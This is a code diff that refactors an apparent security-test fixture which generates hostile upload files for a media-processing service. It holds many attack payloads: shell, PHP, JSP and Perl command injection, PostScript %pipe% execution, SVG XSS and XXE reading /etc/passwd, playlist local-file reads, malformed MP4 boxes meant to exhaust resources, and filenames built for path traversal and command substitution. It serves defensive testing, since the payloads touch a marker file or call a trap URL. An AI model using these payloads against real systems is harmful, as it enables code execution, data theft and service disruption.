@@ -13,8 +13,11 @@ const OF_ONE_FAMILY = 15
 const IMAGE_TYPES = ['image/jpeg', 'image/png', 'image/webp', 'image/gif', 'image/avif']
 const VIDEO_TYPES = ['video/mp4', 'video/quicktime', 'video/webm']
 
-const text = (content: string): Buffer => Buffer.from(content.padEnd(64, ' '))
-const box = (type: string, ...parts: (Buffer | string)[]): Buffer => {
+function text(content: string): Buffer {
+  return Buffer.from(content.padEnd(64, ' '))
+}
+
+function box(type: string, ...parts: (Buffer | string)[]): Buffer {
   const content = Buffer.concat(
     parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
   )
@@ -23,65 +26,79 @@ const box = (type: string, ...parts: (Buffer | string)[]): Buffer => {
   head.write(type, 4, 'latin1')
   return Buffer.concat([head, content])
 }
+
 const FTYP = box('ftyp', 'isom\0\0\x02\0isommp42')
-const segment = (marker: number, content: Buffer): Buffer => {
+
+function segment(marker: number, content: Buffer): Buffer {
   const head = Buffer.from([0xff, marker, 0, 0])
   head.writeUInt16BE(Math.min(0xffff, content.length + 2), 2)
   return Buffer.concat([head, content])
 }
-/** Inserts content right after a JPEG's first marker. */
-const intoJpeg = (photo: Buffer, ...segments: Buffer[]): Buffer =>
-  Buffer.concat([photo.subarray(0, 2), ...segments, photo.subarray(2)])
 
-const nested = (type: string, depth: number): Buffer => {
+/** Inserts content right after a JPEG's first marker. */
+function intoJpeg(photo: Buffer, ...segments: Buffer[]): Buffer {
+  return Buffer.concat([photo.subarray(0, 2), ...segments, photo.subarray(2)])
+}
+
+function nested(type: string, depth: number): Buffer {
   let made = box(type, '')
   for (let level = 0; level < depth; level++) made = box(type, made)
   return made
 }
 
-const SCRIPTS = (mark: string, url: string): string[] => [
-  `#!/bin/sh\ntouch ${mark}\n`,
-  `<?php system('touch ${mark}'); ?>`,
-  `#!/usr/bin/env python3\nopen('${mark}','w')`,
-  `<% Runtime.getRuntime().exec("touch ${mark}"); %>`,
-  `#!/usr/bin/perl\nsystem("touch ${mark}");`,
-  `require('fs').writeFileSync('${mark}','')`,
-  `|touch ${mark}`,
-  `push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'url(${url})'\npop graphic-context`,
-]
+function SCRIPTS(mark: string, url: string): string[] {
+  return [
+    `#!/bin/sh\ntouch ${mark}\n`,
+    `<?php system('touch ${mark}'); ?>`,
+    `#!/usr/bin/env python3\nopen('${mark}','w')`,
+    `<% Runtime.getRuntime().exec("touch ${mark}"); %>`,
+    `#!/usr/bin/perl\nsystem("touch ${mark}");`,
+    `require('fs').writeFileSync('${mark}','')`,
+    `|touch ${mark}`,
+    `push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'url(${url})'\npop graphic-context`,
+  ]
+}
 
-const SVGS = (mark: string, url: string): string[] => [
-  `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${url}')</script></svg>`,
-  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>`,
-  `<?xml version="1.0"?><!DOCTYPE x SYSTEM "${url}"><svg xmlns="http://www.w3.org/2000/svg"/>`,
-  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${url}"/></svg>`,
-  `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${url}')"><use href="file:///etc/passwd#a"/></svg>`,
-  `<svg xmlns="http://www.w3.org/2000/svg"><image href="msl:${mark}"/></svg>`,
-]
+function SVGS(mark: string, url: string): string[] {
+  return [
+    `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${url}')</script></svg>`,
+    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>`,
+    `<?xml version="1.0"?><!DOCTYPE x SYSTEM "${url}"><svg xmlns="http://www.w3.org/2000/svg"/>`,
+    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${url}"/></svg>`,
+    `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${url}')"><use href="file:///etc/passwd#a"/></svg>`,
+    `<svg xmlns="http://www.w3.org/2000/svg"><image href="msl:${mark}"/></svg>`,
+  ]
+}
 
-const PLAYLISTS = (url: string): string[] => [
-  `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n${url}\n#EXT-X-ENDLIST`,
-  '#EXTM3U\n#EXTINF:1,\nconcat:file:///etc/passwd|file:///etc/hostname\n#EXT-X-ENDLIST',
-  "ffconcat version 1.0\nfile '/etc/passwd'\n",
-  `ffconcat version 1.0\nfile '${url}'\n`,
-  `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><BaseURL>${url}</BaseURL></Period></MPD>`,
-  `[playlist]\nFile1=${url}\n`,
-]
+function PLAYLISTS(url: string): string[] {
+  return [
+    `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n${url}\n#EXT-X-ENDLIST`,
+    '#EXTM3U\n#EXTINF:1,\nconcat:file:///etc/passwd|file:///etc/hostname\n#EXT-X-ENDLIST',
+    "ffconcat version 1.0\nfile '/etc/passwd'\n",
+    `ffconcat version 1.0\nfile '${url}'\n`,
+    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><BaseURL>${url}</BaseURL></Period></MPD>`,
+    `[playlist]\nFile1=${url}\n`,
+  ]
+}
 
-const DOCUMENTS = (mark: string, url: string): string[] => [
-  `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${url})>>>>endobj`,
-  `%!PS\nuserdict /setpagedevice undef\n(%pipe%touch ${mark}) (w) file`,
-  `%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%touch ${mark}) (w) file`,
-  `{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "${url}"}}}`,
-]
+function DOCUMENTS(mark: string, url: string): string[] {
+  return [
+    `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${url})>>>>endobj`,
+    `%!PS\nuserdict /setpagedevice undef\n(%pipe%touch ${mark}) (w) file`,
+    `%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%touch ${mark}) (w) file`,
+    `{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "${url}"}}}`,
+  ]
+}
 
-const PAGES = (url: string): string[] => [
-  `<!doctype html><script src="${url}"></script>`,
-  `GIF89a/*<html>*/=0;fetch('${url}')//`,
-  `<html><img src=x onerror="fetch('${url}')"></html>`,
-  `\ufeff<html><meta http-equiv="refresh" content="0;url=${url}"></html>`,
-  `Content-Type: text/html\r\n\r\n<script src="${url}"></script>`,
-]
+function PAGES(url: string): string[] {
+  return [
+    `<!doctype html><script src="${url}"></script>`,
+    `GIF89a/*<html>*/=0;fetch('${url}')//`,
+    `<html><img src=x onerror="fetch('${url}')"></html>`,
+    `\ufeff<html><meta http-equiv="refresh" content="0;url=${url}"></html>`,
+    `Content-Type: text/html\r\n\r\n<script src="${url}"></script>`,
+  ]
+}
 
 const PROGRAMS: readonly Buffer[] = [
   Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(120)]),
@@ -113,28 +130,33 @@ const FOREIGN_PICTURES = [
   '0a05010800000000',
 ].map((head) => Buffer.concat([Buffer.from(head, 'hex'), Buffer.alloc(300, 0x11)]))
 
-const VIDEO_HEADS = (url: string): Buffer[] => [
-  Buffer.concat([FTYP, nested('moov', 2_000)]),
-  Buffer.concat([
-    FTYP,
-    box(
-      'moov',
+function VIDEO_HEADS(url: string): Buffer[] {
+  return [
+    Buffer.concat([FTYP, nested('moov', 2_000)]),
+    Buffer.concat([
+      FTYP,
       box(
-        'trak',
+        'moov',
         box(
-          'mdia',
-          box('minf', box('dinf', box('dref', `\0\0\0\0\0\0\0\x01`, box('url ', '\0\0\0\0', url)))),
+          'trak',
+          box(
+            'mdia',
+            box('minf', box('dinf', box('dref', `\0\0\0\0\0\0\0\x01`, box('url ', '\0\0\0\0', url)))),
+          ),
         ),
       ),
-    ),
-  ]),
-  Buffer.concat([FTYP, Buffer.from('ffffffff6d6f6f76', 'hex'), Buffer.alloc(64)]),
-  Buffer.concat([FTYP, Buffer.from('000000016d6461747fffffffffffffff', 'hex'), Buffer.alloc(64)]),
-  Buffer.concat([FTYP, Buffer.from('000000006d6f6f76', 'hex'), Buffer.alloc(64)]),
-  Buffer.concat([FTYP, Buffer.from('000000016d6f6f760000000000000000', 'hex'), Buffer.alloc(64)]),
-  Buffer.concat([FTYP, ...Array<Buffer>(20_000).fill(box('free', ''))]),
-  Buffer.concat([box('moov', box('rmra', box('rmda', box('rdrf', '\0\0\0\0url ', url)))), Buffer.alloc(64)]),
-]
+    ]),
+    Buffer.concat([FTYP, Buffer.from('ffffffff6d6f6f76', 'hex'), Buffer.alloc(64)]),
+    Buffer.concat([FTYP, Buffer.from('000000016d6461747fffffffffffffff', 'hex'), Buffer.alloc(64)]),
+    Buffer.concat([FTYP, Buffer.from('000000006d6f6f76', 'hex'), Buffer.alloc(64)]),
+    Buffer.concat([FTYP, Buffer.from('000000016d6f6f760000000000000000', 'hex'), Buffer.alloc(64)]),
+    Buffer.concat([FTYP, ...Array<Buffer>(20_000).fill(box('free', ''))]),
+    Buffer.concat([
+      box('moov', box('rmra', box('rmda', box('rdrf', '\0\0\0\0url ', url)))),
+      Buffer.alloc(64),
+    ]),
+  ]
+}
 
 const EBML = Buffer.from('1a45dfa39f4286810142f7810142f2810442f381084282847765626d', 'hex')
 const MATROSKA_HEADS: readonly Buffer[] = [
@@ -149,20 +171,28 @@ const MATROSKA_HEADS: readonly Buffer[] = [
   Buffer.concat([EBML, Buffer.from('18538067', 'hex'), Buffer.alloc(400, 0x1a)]),
 ]
 
-const NAMES = (mark: string): string[] => [
-  ...[
+function NAMES(mark: string): string[] {
+  return [
     '../../../../etc/cron.d/nollie',
     '..\\..\\x.jpg',
     `; touch ${mark}`,
     `$(touch ${mark}).jpg`,
     `|touch ${mark}`,
-  ],
-  ...['a\0b.php', 'x.php.jpg', '.htaccess', 'con', `${'x'.repeat(900)}.jpg`, 'ledge\r\nSet-Cookie: a=b.jpg'],
-  ...['%2e%2e%2f', 'file:///etc/passwd', '-vf', '<script>alert(1)</script>.jpg'],
-]
+    'a\0b.php',
+    'x.php.jpg',
+    '.htaccess',
+    'con',
+    `${'x'.repeat(900)}.jpg`,
+    'ledge\r\nSet-Cookie: a=b.jpg',
+    '%2e%2e%2f',
+    'file:///etc/passwd',
+    '-vf',
+    '<script>alert(1)</script>.jpg',
+  ]
+}
 
 /** Creates 300 files in 20 families, each designed to be executed, to connect elsewhere, to lie, or to be expensive. */
-export const hostileFiles = async (trap: Trap, random: Random): Promise<Upload[]> => {
+export async function hostileFiles(trap: Trap, random: Random): Promise<Upload[]> {
   const photo = await phonePhoto({ width: 96, height: 72 })
   const png = await sharp(photo).png().toBuffer()
   const gif = await sharp(photo).gif().toBuffer()
